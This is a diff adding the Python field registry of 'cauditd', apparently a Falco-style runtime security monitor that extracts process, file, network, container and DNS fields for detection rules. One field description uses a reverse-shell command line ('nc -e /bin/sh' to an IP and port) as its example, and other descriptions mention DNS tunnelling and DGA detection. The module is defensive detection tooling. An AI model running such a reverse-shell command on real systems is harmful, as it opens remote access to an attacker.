@@ -1,0 +1,816 @@
+"""The field registry: every field a condition or an output may name, with its extractor.
+
+One table serves the parser (unknown fields), the compiler (types and extractors), the docs
+(`docs/rules.md`) and `cauditd fields`. An extractor returns None when the event lacks the field.
+"""
+
+from __future__ import annotations
+
+import enum
+import errno
+import ipaddress
+import math
+import pwd
+from collections import Counter
+from collections.abc import Callable
+from dataclasses import dataclass
+from functools import lru_cache
+from typing import Any
+
+from cauditd.events import (
+    DnsEvent,
+    Event,
+    ExecEvent,
+    ExitEvent,
+    FileEvent,
+    FlowEvent,
+    ForkEvent,
+    NetSyscallEvent,
+    NetworkEvent,
+    ProcessInfo,
+    SyscallEvent,
+)
+
+Extractor = Callable[[Event], Any]
+EventClasses = tuple[type[Event], ...]
+
+
+class FieldType(enum.Enum):
+    """What a field's values are; decides which operators and literals a check accepts."""
+
+    STRING = "string"
+    INT = "int"
+    FLOAT = "float"
+    BOOL = "bool"
+    IPADDR = "ipaddr"
+    IPLIST = "ipaddr list"
+    LIST = "string list"
+    DYN = "int or string"
+
+
+NUMERIC = (FieldType.INT, FieldType.FLOAT, FieldType.DYN)
+
+
+@dataclass(frozen=True, slots=True)
+class Field:
+    """One field: `name` as rules spell it, its type, doc text, event classes and extractor.
+
+    `arg` is "index" for fields taking `[N]` (proc.aname[2]), "name" for `.<name>` suffixes
+    (evt.arg.request); `volatile` fields (pids, byte counts) are left out of suppression keys.
+    """
+
+    name: str
+    type: FieldType
+    description: str
+    events: EventClasses
+    extract: Extractor
+    arg: str = ""
+    volatile: bool = False
+    make: Callable[[str], Extractor] | None = None
+
+    def extractor(self, arg: str | None) -> Extractor:
+        """The extractor for this field with its argument (N of proc.aname[N], evt.arg.<name>)."""
+        if arg is None or self.make is None:
+            return self.extract
+        return self.make(arg)
+
+
+FIELDS: dict[str, Field] = {}
+
+SYSCALL_TYPES: dict[str, type[SyscallEvent]] = {
+    **dict.fromkeys(("execve", "execveat"), ExecEvent),
+    **dict.fromkeys(("clone", "fork", "vfork", "clone3"), ForkEvent),
+    "procexit": ExitEvent,
+    **dict.fromkeys(
+        ["open", "openat", "openat2", "creat", "unlink", "unlinkat", "rename", "renameat",
+         "renameat2", "mkdir", "mkdirat", "symlink", "symlinkat", "link", "linkat", "chmod",
+         "fchmod", "fchmodat", "chown", "fchown", "lchown", "fchownat"],
+        FileEvent,
+    ),
+    **dict.fromkeys(("connect", "bind", "listen", "accept", "accept4", "sendto"), NetSyscallEvent),
+    **dict.fromkeys(
+        ["setuid", "setgid", "setreuid", "setregid", "setresuid", "setresgid", "capset", "setns",
+         "unshare", "mount", "umount2", "ptrace", "init_module", "finit_module", "bpf",
+         "memfd_create", "socket", "dup", "dup2", "dup3"],
+        SyscallEvent,
+    ),
+}
+NETWORK_TYPES: dict[str, type[NetworkEvent]] = {
+    "flow_new": FlowEvent,
+    "flow_end": FlowEvent,
+    "dns_query": DnsEvent,
+    "dns_response": DnsEvent,
+}
+EVENT_TYPES: dict[str, dict[str, Any]] = {"syscall": SYSCALL_TYPES, "network": NETWORK_TYPES}
+
+ALL: tuple[type[Event], ...] = (Event,)
+SYS: tuple[type[Event], ...] = (SyscallEvent,)
+NET: tuple[type[Event], ...] = (NetworkEvent,)
+SOCK: tuple[type[Event], ...] = (NetSyscallEvent, NetworkEvent)
+
+
+def _field(
+    name: str,
+    ftype: FieldType,
+    events: tuple[type[Event], ...],
+    description: str,
+    *,
+    arg: str = "",
+    volatile: bool = False,
+    make: Callable[[str], Extractor] | None = None,
+) -> Callable[[Extractor], Extractor]:
+    def register(extract: Extractor) -> Extractor:
+        FIELDS[name] = Field(name, ftype, description, events, extract, arg, volatile, make)
+        return extract
+
+    return register
+
+
+S, INT, B = FieldType.STRING, FieldType.INT, FieldType.BOOL
+
+# --- evt.* ---------------------------------------------------------------------------------
+
+
+@_field("evt.type", S, ALL, "Event type: the syscall name (execve, openat, ...), procexit, "
+        "flow_new, flow_end, dns_query or dns_response.")
+def _evt_type(ev: Event) -> Any:
+    return ev.type
+
+
+@_field("evt.source", S, ALL, 'Event source: "syscall" or "network".')
+def _evt_source(ev: Event) -> Any:
+    return ev.source
+
+
+@_field("evt.time", INT, ALL, "Event time, nanoseconds since the epoch.", volatile=True)
+def _evt_time(ev: Event) -> Any:
+    return ev.wall_ns
+
+
+@_field("evt.dir", S, ALL, 'Always "<": cauditd reports completed events (for Falco macros).')
+def _evt_dir(ev: Event) -> Any:
+    return "<"
+
+
+@_field("evt.rawres", INT, SYS, "Return value of the syscall as a number.", volatile=True)
+def _evt_rawres(ev: Event) -> Any:
+    return ev.ret if isinstance(ev, SyscallEvent) else None
+
+
+@_field("evt.res", S, SYS, 'Return value as Falco prints it: "SUCCESS" for >= 0, else the '
+        'errno name ("ENOENT", "EPERM", ...).')
+def _evt_res(ev: Event) -> Any:
+    if not isinstance(ev, SyscallEvent):
+        return None
+    return "SUCCESS" if ev.ret >= 0 else errno.errorcode.get(-ev.ret, str(ev.ret))
+
+
+@_field("evt.failed", B, SYS, "True when the syscall returned an error.")
+def _evt_failed(ev: Event) -> Any:
+    return ev.ret < 0 if isinstance(ev, SyscallEvent) else None
+
+
+OPEN_TYPES = frozenset(("open", "openat", "openat2", "creat"))
+O_ACCMODE, O_WRONLY, O_RDWR = 0o3, 0o1, 0o2
+
+
+@_field("evt.is_open_read", B, (FileEvent,), "True for an open that can read "
+        "(O_RDONLY or O_RDWR).")
+def _is_open_read(ev: Event) -> Any:
+    if not isinstance(ev, FileEvent) or ev.type not in OPEN_TYPES:
+        return None
+    return ev.type != "creat" and (ev.flags & O_ACCMODE) in (0, O_RDWR)
+
+
+@_field("evt.is_open_write", B, (FileEvent,), "True for an open that can write "
+        "(O_WRONLY, O_RDWR, or creat).")
+def _is_open_write(ev: Event) -> Any:
+    if not isinstance(ev, FileEvent) or ev.type not in OPEN_TYPES:
+        return None
+    return ev.type == "creat" or (ev.flags & O_ACCMODE) in (O_WRONLY, O_RDWR)
+
+
+OPEN_FLAGS = (
+    (0o100, "O_CREAT"), (0o200, "O_EXCL"), (0o400, "O_NOCTTY"), (0o1000, "O_TRUNC"),
+    (0o2000, "O_APPEND"), (0o4000, "O_NONBLOCK"), (0o200000, "O_DIRECTORY"),
+    (0o400000, "O_NOFOLLOW"), (0o2000000, "O_CLOEXEC"), (0o20000000, "O_PATH"),
+    (0o20200000, "O_TMPFILE"),
+)
+MODE_FLAGS = (
+    (0o4000, "S_ISUID"), (0o2000, "S_ISGID"), (0o1000, "S_ISVTX"),
+    (0o400, "S_IRUSR"), (0o200, "S_IWUSR"), (0o100, "S_IXUSR"),
+    (0o40, "S_IRGRP"), (0o20, "S_IWGRP"), (0o10, "S_IXGRP"),
+    (0o4, "S_IROTH"), (0o2, "S_IWOTH"), (0o1, "S_IXOTH"),
+)
+
+
+def format_open_flags(flags: int) -> str:
+    """Open flags as Falco prints them: "O_WRONLY|O_CREAT|O_TRUNC"."""
+    names = [("O_RDONLY", "O_WRONLY", "O_RDWR", "O_ACCMODE")[flags & O_ACCMODE]]
+    names += [name for bit, name in OPEN_FLAGS if flags & bit == bit]
+    return "|".join(names)
+
+
+def format_mode(mode: int) -> str:
+    """A mode as Falco prints it: "04755(S_ISUID|S_IRUSR|...)"."""
+    return f"0{mode & 0o7777:o}(" + "|".join(n for bit, n in MODE_FLAGS if mode & bit) + ")"
+
+
+def _file_args(ev: FileEvent) -> dict[str, Any]:
+    second = ev.target or None
+    return {
+        "name": ev.path, "path": ev.path, "pathname": ev.path, "oldpath": ev.path,
+        "newpath": second, "linkpath": second,
+        "target": ev.path if ev.type in ("symlink", "symlinkat") else second,
+        "dirfd": ev.dirfd, "flags": format_open_flags(ev.flags), "mode": format_mode(ev.mode),
+        "uid": ev.owner_uid, "gid": ev.owner_gid, "fd": ev.ret if ev.ret >= 0 else None,
+    }
+
+
+def _raw_file_args(ev: FileEvent) -> dict[str, Any]:
+    return {**_file_args(ev), "flags": ev.flags, "mode": ev.mode}
+
+
+def _net_args(ev: NetSyscallEvent) -> dict[str, Any]:
+    return {"fd": ev.fd, "family": ev.family, "type": ev.sock_type, "addr": ev.addr,
+            "port": ev.port, "peer_addr": ev.peer_addr, "peer_port": ev.peer_port}
+
+
+def _make_arg(raw: bool) -> Callable[[str], Extractor]:
+    def make(name: str) -> Extractor:
+        def extract(ev: Event) -> Any:
+            if not isinstance(ev, SyscallEvent):
+                return None
+            if name in ev.args:
+                return ev.args[name]
+            if isinstance(ev, FileEvent):
+                return (_raw_file_args(ev) if raw else _file_args(ev)).get(name)
+            if isinstance(ev, NetSyscallEvent):
+                return _net_args(ev).get(name)
+            return None
+
+        return extract
+
+    return make
+
+
+def _no_arg(ev: Event) -> Any:
+    return None
+
+
+FIELDS["evt.arg"] = Field(
+    "evt.arg", FieldType.DYN,
+    "A syscall argument by name, e.g. evt.arg.request (ptrace), evt.arg.nstype (setns), "
+    "evt.arg.flags (unshare, mount), evt.arg.newfd / evt.arg.oldfd_is_socket (dup2/dup3), "
+    "evt.arg.oldpath / evt.arg.newpath (rename, link), evt.arg.target / evt.arg.linkpath "
+    "(symlink). On file events evt.arg.flags and evt.arg.mode print as Falco does "
+    '("O_WRONLY|O_TRUNC", "04755(S_ISUID|...)"): test them with contains.',
+    SYS, _no_arg, arg="name", make=_make_arg(False),
+)
+FIELDS["evt.rawarg"] = Field(
+    "evt.rawarg", FieldType.DYN,
+    "A syscall argument by name as its raw value (numbers stay numbers), e.g. evt.rawarg.mode.",
+    SYS, _no_arg, arg="name", make=_make_arg(True),
+)
+
+# --- proc.* --------------------------------------------------------------------------------
+
+
+def _proc(ev: Event) -> ProcessInfo | None:
+    return ev.process if isinstance(ev, SyscallEvent) else None
+
+
+def _parent(ev: Event) -> ProcessInfo | None:
+    proc = _proc(ev)
+    return proc.parent if proc is not None else None
+
+
+def _basename(path: str) -> str:
+    return path.rsplit("/", 1)[-1]
+
+
+@_field("proc.pid", INT, SYS, "Process id (host pid namespace).", volatile=True)
+def _proc_pid(ev: Event) -> Any:
+    return ev.pid if isinstance(ev, SyscallEvent) else None
+
+
+@_field("proc.ppid", INT, SYS, "Parent process id.", volatile=True)
+def _proc_ppid(ev: Event) -> Any:
+    proc = _proc(ev)
+    return proc.ppid or None if proc is not None else None
+
+
+@_field("proc.name", S, SYS, "Process name: the basename of the executable, else the comm.")
+def _proc_name(ev: Event) -> Any:
+    if isinstance(ev, ExecEvent):
+        return _basename(ev.exe) if ev.exe else ev.comm
+    proc = _proc(ev)
+    if proc is not None:
+        return proc.name
+    return ev.comm or None if isinstance(ev, SyscallEvent) else None
+
+
+def _argv(ev: Event) -> tuple[str, ...] | None:
+    if isinstance(ev, ExecEvent):
+        return ev.argv
+    proc = _proc(ev)
+    return proc.args if proc is not None else None
+
+
+@_field("proc.exe", S, SYS, "First command-line argument (argv[0]), as in Falco; "
+        "the path when argv is unknown.")
+def _proc_exe(ev: Event) -> Any:
+    argv = _argv(ev)
+    return argv[0] if argv else _proc_exepath(ev)
+
+
+@_field("proc.exepath", S, SYS, "Full path of the executable.")
+def _proc_exepath(ev: Event) -> Any:
+    if isinstance(ev, ExecEvent):
+        return ev.exe or None
+    proc = _proc(ev)
+    return proc.exe or None if proc is not None else None
+
+
+@_field("proc.cmdline", S, SYS, 'Name and arguments: "nc -e /bin/sh 10.0.0.1 4444".')
+def _proc_cmdline(ev: Event) -> Any:
+    argv = _argv(ev)
+    name = _proc_name(ev)
+    if name is None:
+        return None
+    return " ".join((name, *argv[1:])) if argv else name
+
+
+@_field("proc.args", S, SYS, "Arguments after argv[0], joined by spaces.")
+def _proc_args(ev: Event) -> Any:
+    argv = _argv(ev)
+    if argv is None:
+        return None
+    return " ".join(argv[1:])
+
+
+@_field("proc.cwd", S, SYS, "Working directory (exec events, or as the process table knows).")
+def _proc_cwd(ev: Event) -> Any:
+    if isinstance(ev, ExecEvent) and ev.cwd:
+        return ev.cwd
+    proc = _proc(ev)
+    return proc.cwd or None if proc is not None else None
+
+
+@_field("proc.tty", INT, SYS, "Controlling terminal number; 0 when none.")
+def _proc_tty(ev: Event) -> Any:
+    if isinstance(ev, ExecEvent):
+        return ev.tty
+    proc = _proc(ev)
+    return proc.tty if proc is not None else None
+
+
+@_field("proc.is_exe_upper_layer", B, SYS, "The executable lives in the container's writable "
+        "(upper) layer: it was written after the container started.")
+def _proc_upper(ev: Event) -> Any:
+    if isinstance(ev, ExecEvent):
+        return ev.is_exe_upper_layer
+    proc = _proc(ev)
+    return proc.is_exe_upper_layer if proc is not None else None
+
+
+@_field("proc.is_exe_from_memfd", B, SYS, "The executable is a memfd (fileless execution).")
+def _proc_memfd(ev: Event) -> Any:
+    if isinstance(ev, ExecEvent):
+        return ev.is_exe_from_memfd
+    proc = _proc(ev)
+    return proc.is_exe_from_memfd if proc is not None else None
+
+
+@_field("proc.is_container_init", B, SYS, "The process is the container's first process "
+        "(its entrypoint, pid 1 inside the container). Not in Falco, which uses proc.vpid=1.")
+def _proc_init(ev: Event) -> Any:
+    if not isinstance(ev, SyscallEvent):
+        return None
+    return ev.container.pid != 0 and ev.pid == ev.container.pid
+
+
+@_field("proc.pname", S, SYS, "Name of the parent process.")
+def _proc_pname(ev: Event) -> Any:
+    parent = _parent(ev)
+    return parent.name if parent is not None else None
+
+
+@_field("proc.pexe", S, SYS, "argv[0] of the parent process.")
+def _proc_pexe(ev: Event) -> Any:
+    parent = _parent(ev)
+    if parent is None:
+        return None
+    return parent.args[0] if parent.args else parent.exe or None
+
+
+@_field("proc.pexepath", S, SYS, "Full executable path of the parent process.")
+def _proc_pexepath(ev: Event) -> Any:
+    parent = _parent(ev)
+    return parent.exe or None if parent is not None else None
+
+
+@_field("proc.pcmdline", S, SYS, "Command line of the parent process.")
+def _proc_pcmdline(ev: Event) -> Any:
+    parent = _parent(ev)
+    return parent.cmdline if parent is not None else None
+
+
+def _make_aname(arg: str) -> Extractor:
+    level = int(arg)
+
+    def extract(ev: Event) -> Any:
+        if level == 0:
+            return _proc_name(ev)
+        proc = _proc(ev)
+        ancestor = proc.ancestor(level) if proc is not None else None
+        return ancestor.name if ancestor is not None else None
+
+    return extract
+
+
+@_field("proc.aname", FieldType.LIST, SYS, "Name of an ancestor: proc.aname[1] is the parent, "
+        "proc.aname[2] the grandparent; without an index, every ancestor (any one may match).",
+        arg="index", make=_make_aname)
+def _proc_anames(ev: Event) -> Any:
+    proc = _proc(ev)
+    return tuple(p.name for p in proc.ancestors()) if proc is not None else None
+
+
+def _make_apid(arg: str) -> Extractor:
+    level = int(arg)
+
+    def extract(ev: Event) -> Any:
+        proc = _proc(ev)
+        ancestor = proc.ancestor(level) if proc is not None else None
+        return ancestor.pid if ancestor is not None else None
+
+    return extract
+
+
+FIELDS["proc.apid"] = Field(
+    "proc.apid", INT, "Pid of an ancestor: proc.apid[1] is the parent.", SYS,
+    _make_apid("1"), arg="index", volatile=True, make=_make_apid,
+)
+
+# --- user / group --------------------------------------------------------------------------
+
+
+@lru_cache(maxsize=1024)
+def _host_user_name(uid: int) -> str:
+    try:
+        return pwd.getpwuid(uid).pw_name
+    except KeyError:
+        return str(uid)
+
+
+@_field("user.uid", INT, SYS, "User id of the process.")
+def _user_uid(ev: Event) -> Any:
+    return ev.uid if isinstance(ev, SyscallEvent) else None
+
+
+@_field("user.name", S, SYS, 'User name: "root" for uid 0; on the host the passwd name; '
+        "in a container the uid as text.")
+def _user_name(ev: Event) -> Any:
+    if not isinstance(ev, SyscallEvent):
+        return None
+    if ev.uid == 0:
+        return "root"
+    return _host_user_name(ev.uid) if ev.container.is_host else str(ev.uid)
+
+
+@_field("group.gid", INT, SYS, "Group id of the process.")
+def _group_gid(ev: Event) -> Any:
+    return ev.gid if isinstance(ev, SyscallEvent) else None
+
+
+# --- fd.* ----------------------------------------------------------------------------------
+
+
+def _endpoint(addr: str, port: int) -> str:
+    return f"[{addr}]:{port}" if ":" in addr else f"{addr}:{port}"
+
+
+@_field("fd.name", S, (FileEvent, *SOCK), "File path, or ip:port of the peer for sockets "
+        '("sip:sport->dip:dport" for flows).')
+def _fd_name(ev: Event) -> Any:
+    if isinstance(ev, FileEvent):
+        return ev.path or None
+    if isinstance(ev, NetSyscallEvent):
+        if ev.family == 1:
+            return ev.addr or None
+        return _endpoint(ev.addr, ev.port) if ev.addr else None
+    if isinstance(ev, NetworkEvent):
+        return f"{_endpoint(ev.sip, ev.sport)}->{_endpoint(ev.dip, ev.dport)}"
+    return None
+
+
+@_field("fd.directory", S, (FileEvent,), "Directory of fd.name (no trailing slash).")
+def _fd_directory(ev: Event) -> Any:
+    if not isinstance(ev, FileEvent) or not ev.path:
+        return None
+    head = ev.path.rsplit("/", 1)[0]
+    return head or "/"
+
+
+@_field("fd.filename", S, (FileEvent,), "Last component of fd.name.")
+def _fd_filename(ev: Event) -> Any:
+    return _basename(ev.path) or None if isinstance(ev, FileEvent) and ev.path else None
+
+
+def _fd_kind(ev: Event) -> str | None:
+    if isinstance(ev, FileEvent):
+        return "file"
+    if isinstance(ev, NetSyscallEvent):
+        return {1: "unix", 2: "ipv4", 10: "ipv6"}.get(ev.family)
+    if isinstance(ev, NetworkEvent):
+        return "ipv6" if ":" in ev.sip else "ipv4"
+    return None
+
+
+@_field("fd.type", S, (FileEvent, *SOCK), 'Kind of descriptor: "file", "ipv4", "ipv6", "unix".')
+def _fd_type(ev: Event) -> Any:
+    return _fd_kind(ev)
+
+
+@_field("fd.typechar", S, (FileEvent, *SOCK), 'Kind as one letter: "f", "4", "6", "u".')
+def _fd_typechar(ev: Event) -> Any:
+    kind = _fd_kind(ev)
+    return {"file": "f", "ipv4": "4", "ipv6": "6", "unix": "u"}.get(kind) if kind else None
+
+
+@_field("fd.num", INT, (FileEvent, NetSyscallEvent), "File descriptor number (the fd an open "
+        "returned, or the socket of a connect/bind/...).", volatile=True)
+def _fd_num(ev: Event) -> Any:
+    if isinstance(ev, NetSyscallEvent):
+        return ev.fd
+    if isinstance(ev, FileEvent) and ev.type in OPEN_TYPES:
+        return ev.ret
+    return None
+
+
+def _net_ends(ev: Event) -> tuple[str, int, str, int] | None:
+    """(source ip, source port, destination ip, destination port); "" / -1 when unknown."""
+    if isinstance(ev, NetworkEvent):
+        return ev.sip, ev.sport, ev.dip, ev.dport
+    if isinstance(ev, NetSyscallEvent) and ev.family in (2, 10):
+        if ev.type in ("connect", "sendto"):
+            return "", -1, ev.addr, ev.port
+        if ev.type in ("accept", "accept4"):
+            return ev.addr, ev.port, ev.peer_addr, ev.peer_port
+        return ev.addr, ev.port, "", -1
+    return None
+
+
+@_field("fd.sip", FieldType.IPADDR, SOCK, "Source IP: the flow's source; for bind/listen/accept "
+        "the local address. Compare with an address or a CIDR.")
+def _fd_sip(ev: Event) -> Any:
+    ends = _net_ends(ev)
+    return ends[0] or None if ends else None
+
+
+@_field("fd.dip", FieldType.IPADDR, SOCK, "Destination IP: the flow's destination; the peer of "
+        "connect/sendto, the client of accept. Compare with an address or a CIDR.")
+def _fd_dip(ev: Event) -> Any:
+    ends = _net_ends(ev)
+    return ends[2] or None if ends else None
+
+
+@_field("fd.sport", INT, SOCK, "Source port (see fd.sip).", volatile=True)
+def _fd_sport(ev: Event) -> Any:
+    ends = _net_ends(ev)
+    return ends[1] if ends and ends[1] >= 0 else None
+
+
+@_field("fd.dport", INT, SOCK, "Destination port (see fd.dip).")
+def _fd_dport(ev: Event) -> Any:
+    ends = _net_ends(ev)
+    return ends[3] if ends and ends[3] >= 0 else None
+
+
+@_field("fd.net", FieldType.IPLIST, SOCK, 'Either IP of the connection, for CIDR tests: '
+        '`fd.net = "10.0.0.0/8"` is true when fd.sip or fd.dip is in it.')
+def _fd_net(ev: Event) -> Any:
+    ends = _net_ends(ev)
+    return tuple(ip for ip in (ends[0], ends[2]) if ip) if ends else None
+
+
+@_field("fd.l4proto", S, SOCK, 'Transport protocol: "tcp", "udp", "icmp", "icmpv6", "raw".')
+def _fd_l4proto(ev: Event) -> Any:
+    if isinstance(ev, NetworkEvent):
+        return ev.l4proto or None
+    if isinstance(ev, NetSyscallEvent) and ev.family in (2, 10):
+        return {1: "tcp", 2: "udp", 3: "raw"}.get(ev.sock_type & 0xF)
+    return None
+
+
+# --- container / k8s -----------------------------------------------------------------------
+
+
+@_field("container.id", S, ALL, 'Short container id (12 characters), or "host".')
+def _container_id(ev: Event) -> Any:
+    return ev.container.short_id
+
+
+@_field("container.full_id", S, ALL, 'Full container id, or "host".')
+def _container_full_id(ev: Event) -> Any:
+    return ev.container.id
+
+
+@_field("container.name", S, ALL, 'Container name ("host" on the host).')
+def _container_name(ev: Event) -> Any:
+    return ev.container.name or None
+
+
+@_field("container.image", S, ALL, 'Image as the runtime names it, e.g. "nginx:1.25".')
+def _container_image(ev: Event) -> Any:
+    return ev.container.image or None
+
+
+@_field("container.image.repository", S, ALL, 'Image without its tag, e.g. "nginx".')
+def _container_repo(ev: Event) -> Any:
+    return ev.container.image_repository or None
+
+
+@_field("container.image.tag", S, ALL, 'Image tag, e.g. "1.25".')
+def _container_tag(ev: Event) -> Any:
+    return ev.container.image_tag or None
+
+
+@_field("container.privileged", B, ALL, "The container runs privileged.")
+def _container_privileged(ev: Event) -> Any:
+    return None if ev.container.is_host else ev.container.privileged
+
+
+@_field("k8s.pod.name", S, ALL, "Kubernetes pod name (from the container's labels).")
+def _k8s_pod(ev: Event) -> Any:
+    return ev.container.pod_name or None
+
+
+@_field("k8s.ns.name", S, ALL, "Kubernetes namespace (from the container's labels).")
+def _k8s_ns(ev: Event) -> Any:
+    return ev.container.pod_namespace or None
+
+
+# --- network source: net.* and dns.* ------------------------------------------------------
+
+
+@_field("net.direction", S, NET, '"egress" (from the container) or "ingress" (to it).')
+def _net_direction(ev: Event) -> Any:
+    return ev.direction or None if isinstance(ev, NetworkEvent) else None
+
+
+@_field("net.bytes", INT, (FlowEvent,), "Bytes of the flow so far (totals on flow_end).",
+        volatile=True)
+def _net_bytes(ev: Event) -> Any:
+    return ev.bytes if isinstance(ev, FlowEvent) else None
+
+
+@_field("net.packets", INT, (FlowEvent,), "Packets of the flow so far.", volatile=True)
+def _net_packets(ev: Event) -> Any:
+    return ev.packets if isinstance(ev, FlowEvent) else None
+
+
+@_field("net.peer_names", FieldType.LIST, (FlowEvent,), "DNS names the container resolved "
+        "to the peer address (any one may match).")
+def _net_peer_names(ev: Event) -> Any:
+    return ev.peer_names if isinstance(ev, FlowEvent) else None
+
+
+def _qname(ev: Event) -> str | None:
+    return ev.qname.rstrip(".").lower() or None if isinstance(ev, DnsEvent) else None
+
+
+@_field("dns.qname", S, (DnsEvent,), "Queried name, lower case, without the trailing dot.")
+def _dns_qname(ev: Event) -> Any:
+    return _qname(ev)
+
+
+@_field("dns.qname_suffixes", FieldType.LIST, (DnsEvent,), 'The name and every parent domain: '
+        '"a.evil.com" gives a.evil.com, evil.com, com (for blocklists with intersects).')
+def _dns_suffixes(ev: Event) -> Any:
+    name = _qname(ev)
+    if name is None:
+        return None
+    labels = name.split(".")
+    return tuple(".".join(labels[i:]) for i in range(len(labels)))
+
+
+@_field("dns.qname_len", INT, (DnsEvent,), "Length of the queried name.")
+def _dns_len(ev: Event) -> Any:
+    name = _qname(ev)
+    return len(name) if name is not None else None
+
+
+@_field("dns.qname_labels", INT, (DnsEvent,), "Number of labels in the queried name.")
+def _dns_labels(ev: Event) -> Any:
+    name = _qname(ev)
+    return name.count(".") + 1 if name is not None else None
+
+
+@_field("dns.qname_longest_label", INT, (DnsEvent,), "Length of the longest label (tunnels "
+        "pack data into long labels).")
+def _dns_longest(ev: Event) -> Any:
+    name = _qname(ev)
+    return max(len(label) for label in name.split(".")) if name is not None else None
+
+
+def shannon_entropy(text: str) -> float:
+    """Shannon entropy of `text` in bits per character."""
+    if not text:
+        return 0.0
+    total = len(text)
+    return -sum(n / total * math.log2(n / total) for n in Counter(text).values())
+
+
+@_field("dns.qname_entropy", FieldType.FLOAT, (DnsEvent,), "Shannon entropy (bits/char) of the "
+        "longest label: random DGA labels score about 3.5 and more, words about 2.5-3.")
+def _dns_entropy(ev: Event) -> Any:
+    name = _qname(ev)
+    if name is None:
+        return None
+    return shannon_entropy(max(name.split("."), key=len))
+
+
+@_field("dns.qtype", S, (DnsEvent,), 'Query type: "A", "AAAA", "TXT", "NULL", ...')
+def _dns_qtype(ev: Event) -> Any:
+    return ev.qtype.upper() or None if isinstance(ev, DnsEvent) else None
+
+
+@_field("dns.rcode", S, (DnsEvent,), 'Response code of a dns_response: "NOERROR", "NXDOMAIN", ...')
+def _dns_rcode(ev: Event) -> Any:
+    return ev.rcode.upper() or None if isinstance(ev, DnsEvent) else None
+
+
+@_field("dns.answers", FieldType.LIST, (DnsEvent,), "Addresses and names in the answer "
+        "(any one may match).")
+def _dns_answers(ev: Event) -> Any:
+    return ev.answers if isinstance(ev, DnsEvent) else None
+
+
+# --- lookups used by the parser, compiler and docs ----------------------------------------
+
+
+def lookup(name: str) -> tuple[Field, str | None] | None:
+    """Resolve `proc.aname[2]` or `evt.arg.request` to (field, argument); None if unknown."""
+    if name in FIELDS:
+        return FIELDS[name], None
+    base, bracket, rest = name.partition("[")
+    if bracket and rest.endswith("]") and base in FIELDS and FIELDS[base].arg == "index":
+        index = rest[:-1]
+        return (FIELDS[base], index) if index.isdigit() else None
+    for prefix in ("evt.arg.", "evt.rawarg."):
+        if name.startswith(prefix) and len(name) > len(prefix):
+            return FIELDS[prefix[:-1]], name[len(prefix):]
+    return None
+
+
+def field_type(field: Field, arg: str | None) -> FieldType:
+    """The type of `field` with its argument (an indexed ancestor is one name, not a list)."""
+    if field.arg == "index" and arg is not None and field.type is FieldType.LIST:
+        return FieldType.STRING
+    return field.type
+
+
+def event_names(events: tuple[type[Event], ...]) -> str:
+    """Event classes as docs print them."""
+    return ", ".join(cls.__name__ for cls in events)
+
+
+def format_fields() -> str:
+    """The field table as `cauditd fields` prints it."""
+    width = max(len(_doc_name(f)) for f in FIELDS.values())
+    lines = []
+    for field in FIELDS.values():
+        lines.append(f"{_doc_name(field):<{width}}  {field.type.value:<12}  {field.description}")
+        lines.append(f"{'':<{width}}  {'':<12}  events: {event_names(field.events)}")
+    return "\n".join(lines)
+
+
+def _doc_name(field: Field) -> str:
+    if field.arg == "index":
+        return f"{field.name}[N]"
+    if field.arg == "name":
+        return f"{field.name}.<name>"
+    return field.name
+
+
+def markdown_table() -> str:
+    """The field table of docs/rules.md, generated from the registry."""
+    rows = ["| Field | Type | Events | Description |", "| --- | --- | --- | --- |"]
+    for field in FIELDS.values():
+        desc = field.description.replace("|", "\\|")
+        rows.append(
+            f"| `{_doc_name(field)}` | {field.type.value} | {event_names(field.events)} | {desc} |"
+        )
+    return "\n".join(rows)
+
+
+@lru_cache(maxsize=65536)
+def parse_ip(text: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address | None:
+    """An address from event text; None when it is not one."""
+    try:
+        return ipaddress.ip_address(text.split("%", 1)[0])
+    except ValueError:
+        return None
+
